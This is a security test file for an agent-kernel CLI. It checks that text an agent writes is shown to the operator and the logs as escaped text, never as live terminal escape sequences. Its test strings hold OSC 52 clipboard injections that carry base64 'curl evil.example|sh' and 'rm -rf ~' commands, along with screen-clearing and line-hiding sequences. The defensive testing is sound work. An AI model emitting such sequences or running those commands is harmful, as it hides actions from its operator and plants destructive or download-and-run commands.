import { execFile } from 'node:child_process';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeWithEngine } from '../../helpers/engine.js';
import { type TestInstance, createTestInstance } from '../../helpers/test-instance.js';
import { BIN, type StdioSession, connectStdio, ensureBuilt, textOf } from '../server/helpers.js';

const run = promisify(execFile);
const RUNNER_BIN = BIN.replace('agent-kernel.js', 'kernel-runner.js');

/** Bytes a terminal acts on: C0 but tab and newline, DEL, C1 (CSI is U+009B). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/; // eslint-disable-line no-control-regex

/**
 * The agent writes text the operator's CLI prints (a paused reason, a config key, a terminal's
 * command and program name) and the logs keep. Raw escape sequences there would act on the
 * operator's terminal: OSC 52 sets the clipboard (a command to paste), ESC[2J and CR hide
 * lines, CSI recolours. Played through the agent's own tools in a real container.
 */
describeWithEngine('escape: escape sequences aimed at the operator\'s terminal', () => {
  let test: TestInstance;
  let session: StdioSession;
  let shell: number;

  /** Run a line in the agent's shell and wait for its prompt. */
  async function agent(line: string): Promise<void> {
    let typed = await session.call('type', { tty: shell, expect: 'bash', text: line });
    // Output the agent has not seen yet (another terminal's) must be read first.
    for (let i = 0; i < 20 && typed.isError && textOf(typed).includes('UNSEEN_OUTPUT'); i++) {
      await session.call('wait', { timeout: 2 });
      typed = await session.call('type', { tty: shell, expect: 'bash', text: line });
    }
    expect(typed.isError, textOf(typed)).toBeFalsy();
    // wait ends when the shell marks the command finished.
    const waited = await session.call('wait', { timeout: 50 });
    expect(waited.isError, textOf(waited)).toBeFalsy();
  }

  const cli = (bin: string, ...args: string[]) =>
    run(process.execPath, [bin, ...args], { env: process.env }).catch((error: { stdout: string; stderr: string }) => ({ stdout: error.stdout, stderr: error.stderr }));

  beforeAll(async () => {
    await ensureBuilt();
    test = await createTestInstance({ config: { container: { network: 'none' } }, files: { 'system/startup.json': JSON.stringify({ terminals: [] }) } });
    session = await connectStdio(test.dataDir);
    expect((await session.call('login')).isError).toBeFalsy();
    shell = (await session.ok('open')).structuredContent?.tty as number;
    await session.call('wait', { timeout: 20 });
  });
  afterAll(async () => {
    await session?.close().catch(() => undefined);
    await test?.cleanup();
  });

  it('kernel-runner status shows a planted paused reason as text, never as escape sequences', async () => {
    const paused = path.join(test.dataDir, 'system', 'paused');
    await agent(`printf '%s' $'all fine\\e]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\a\\e[2J\\r\\xc2\\x9b8mhidden' > '${paused}'`);
    const { stdout, stderr } = await cli(RUNNER_BIN, 'status', test.dataDir);
    expect(stdout + stderr).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain('all fine\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007\\u001b[2J\\u000d\\u009b8mhidden');
    await agent(`rm -f '${paused}'`);
  }, 300_000);

  it('agent-kernel ls and the server log show a hostile command as text', async () => {
    const command = `: '\u001b]52;c;cm0gLXJmIH4=\u0007\u009b2J\r'; sleep 600`;
    const opened = (await session.ok('open', { command })).structuredContent?.tty as number;
    const { stdout: table } = await cli(BIN, 'ls', test.dataDir);
    expect(table).toContain(`: '\\u001b]52;c;cm0gLXJmIH4=\\u0007\\u009b2J\\u000d'; sleep 600`);
    expect(table).not.toMatch(RAW_CONTROL);
    const json = (await cli(BIN, 'ls', test.dataDir, '--json')).stdout;
    expect(json).not.toMatch(RAW_CONTROL);
    // Still the same value for a program that reads the JSON.
    const rows = JSON.parse(json) as Array<{ tty: number; command: string }>;
    expect(rows.find((r) => r.tty === opened)?.command).toBe(command);
    const logs = (await readdir(test.instance.paths.logs)).filter((f) => f.endsWith('.log'));
    const logText = (await Promise.all(logs.map((f) => readFile(path.join(test.instance.paths.logs, f), 'utf8')))).join('');
    expect(logText).toContain('cm0gLXJmIH4=');
    expect(logText).not.toMatch(RAW_CONTROL);
    await session.call('close', { tty: opened });
  }, 300_000);

  it('a config error naming a key the agent wrote shows the key as text', async () => {
    const config = path.join(test.dataDir, 'system', 'agent_config.json');
    await agent(`cp '${config}' /tmp/agent_config.json && printf '%s' '{"tty": {"\\u001b]0;owned\\u0007\\u009b2J": 1}}' > '${config}'`);
    try {
      const { stdout, stderr } = await cli(BIN, 'config', test.dataDir);
      expect(stderr).toMatch(/agent_config\.json/);
      expect(stderr).toContain('\\u001b]0;owned\\u0007\\u009b2J');
      expect(stdout + stderr).not.toMatch(RAW_CONTROL);
    } finally {
      await agent(`cp /tmp/agent_config.json '${config}'`);
    }
  }, 300_000);
});
